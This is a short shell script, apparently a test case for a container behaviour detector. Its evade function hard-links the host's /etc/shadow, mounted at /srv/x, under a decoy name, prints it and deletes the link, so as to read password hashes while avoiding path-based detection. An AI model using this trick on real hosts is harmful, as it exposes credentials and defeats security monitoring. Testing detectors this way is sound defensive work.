#!/bin/sh
# A secret of the host gets another name in the host's tree, which is mounted at a place of no particular name
# kind: K5
# finds: Password Hashes Read, behaviour.read
# options: --volume /:/srv/x

learn() {
    control
}

control() {
    ln -f /srv/x/etc/hostname /srv/x/var/tmp/ethogram-evasion-name
    rm /srv/x/var/tmp/ethogram-evasion-name
}

evade() {
    ln -f /srv/x/etc/shadow /srv/x/var/tmp/ethogram-evasion-link
    cat /srv/x/var/tmp/ethogram-evasion-link
    rm /srv/x/var/tmp/ethogram-evasion-link
}

"$@"
